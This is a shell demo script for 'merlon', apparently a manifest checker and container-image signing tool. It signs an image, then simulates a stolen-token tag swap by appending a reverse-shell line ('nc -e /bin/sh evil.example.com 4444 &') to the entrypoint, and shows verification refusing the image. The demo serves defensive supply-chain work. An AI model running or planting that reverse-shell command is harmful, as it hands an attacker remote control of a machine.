#!/bin/sh
# demo.sh - the main job on real input: the shop of examples/, or the folders given; then, for the shop, the swap: an
# image is signed, verified, replaced by a poisoned one under its tag, and refused.
# usage: demo.sh MERLON [FOLDER...]. Reads only: nothing is changed in the folders.
set -u
merlon=$1
tools=$(dirname "$0")
shift
own=$#
[ $# -gt 0 ] || set -- examples/shop

say() { printf '\n+ %s\n' "$*"; }

say "merlon check $*"
"$merlon" check "$@"
code=$?
# Findings are what a demo is for; anything else is a failure.
[ "$code" = 0 ] || [ "$code" = 1 ] || [ "$code" = 3 ] || exit "$code"

say "merlon check --diff $*      # what --fix would change: comments and layout stay"
"$merlon" check --diff "$@" | head -n 60

[ "$own" = 0 ] || exit 0

say "merlon check --format markdown $* | head -n 6      # also json, sarif, junit; several with -o FORM=FILE"
"$merlon" check --format markdown "$@" | head -n 6

# --- the swap -------------------------------------------------------------------------------------
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
image=registry.example.com/shop/storefront:latest
printf '#!/bin/sh\necho welcome to the shop\n' >"$tmp/entrypoint.sh"
"$tools/make_image.sh" "$tmp/storefront" latest -C "$tmp" entrypoint.sh >/dev/null || exit 1

printf '\n== The swap: who made the image that examples/shop runs as %s?\n' "$image"
say "merlon key generate -o release"
MERLON_PASSWORD=demo "$merlon" key generate -o "$tmp/release" >/dev/null || exit 1
cat >"$tmp/merlon.yaml" <<END
signers:
  - {name: release, key: release.pub}
images:
  - {match: ["registry.example.com/shop/storefront"], signers: [release]}
  - {match: ["**"], accept: anything}
END
sed 's/^/    /' "$tmp/merlon.yaml"

say "merlon image sign --key release.key oci:storefront:latest"
MERLON_PASSWORD=demo "$merlon" image sign --key "$tmp/release.key" "oci:$tmp/storefront:latest" >/dev/null || exit 1

verify() { # CODE: verifies, and must exit with it
    say "merlon image verify --image $image=oci:storefront:latest $image"
    "$merlon" image verify --config "$tmp/merlon.yaml" --image "$image=oci:$tmp/storefront:latest" "$image"
    code=$?
    echo "exit code $code"
    [ "$code" = "$1" ] || exit 1
}
verify 0

printf '\nA stolen token pushes the tag again, with a shell in it:\n'
printf 'nc -e /bin/sh evil.example.com 4444 &\n' >>"$tmp/entrypoint.sh"
"$tools/make_image.sh" "$tmp/storefront" latest -C "$tmp" entrypoint.sh || exit 1
verify 1

say "merlon check --image $image=oci:storefront:latest examples/shop/front      # the gate of a pipeline sees the same"
"$merlon" check --config "$tmp/merlon.yaml" --image "$image=oci:$tmp/storefront:latest" -o "json=$tmp/check.json" \
    -q examples/shop/front >/dev/null
grep -o '"message": "'"$image"' has[^"]*"' "$tmp/check.json" | head -n 1 || exit 1
printf '\nTry it on your own manifests: ./x demo FOLDER\n'
